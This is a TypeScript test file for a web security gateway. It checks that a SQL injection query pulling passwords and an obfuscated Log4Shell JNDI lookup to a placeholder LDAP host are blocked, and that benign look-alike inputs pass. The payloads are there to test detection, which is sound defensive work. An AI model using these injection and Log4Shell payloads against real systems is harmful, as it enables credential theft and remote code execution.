import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { request } from 'undici';
import { configSchema } from '../../src/config/full-schema.ts';
import { type Gateway, startGateway } from '../../src/gateway.ts';

// The inspector wired into a real gateway in enforce mode: a critical finding blocks alone, a benign request with
// the same shape passes, and a non-critical finding does not block by itself.
let gateway: Gateway;
const upstream = createServer((req, res) => {
  req.resume();
  req.on('end', () => res.end('ok'));
});
const dataDir = mkdtempSync(join(tmpdir(), 'pc-detect-gw-'));

before(async () => {
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const config = configSchema.parse({
    listen: '127.0.0.1:0',
    admin: { listen: '127.0.0.1:0' },
    upstream: { url: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}` },
    dataDir,
    mode: 'enforce',
    disable: ['behaviour', 'identity'],
    logging: { level: 'silent', access: false },
  });
  gateway = await startGateway(config, { logDestination: { write: () => {} } });
});

after(async () => {
  await gateway.close();
  await new Promise((r) => upstream.close(r));
  rmSync(dataDir, { recursive: true, force: true });
});

const get = async (path: string) => {
  const res = await request(`${gateway.url}${path}`, { headers: { 'user-agent': 'Mozilla/5.0 (test)' } });
  await res.body.text();
  return res.statusCode;
};

test('a request with an unambiguous SQL injection is blocked in enforce mode', async () => {
  assert.equal(await get(`/api/items?id=${encodeURIComponent("1' UNION SELECT password FROM users--")}`), 403);
});

test('a JSON body carrying a Log4Shell lookup is blocked', async () => {
  const res = await request(`${gateway.url}/api/items`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: '${${lower:j}ndi:ldap://x.example/a}' }),
  });
  await res.body.text();
  assert.equal(res.statusCode, 403);
});

test("benign requests with O'Brien, prose and markdown pass", async () => {
  assert.equal(
    await get(`/api/users?name=${encodeURIComponent("Seán O'Brien")}&q=${encodeURIComponent('select the union reps')}`),
    200,
  );
  const res = await request(`${gateway.url}/api/comments`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ body: 'Run `curl -s https://api.example.com | jq .` then select the rows you need 🎉' }),
  });
  await res.body.text();
  assert.equal(res.statusCode, 200);
});
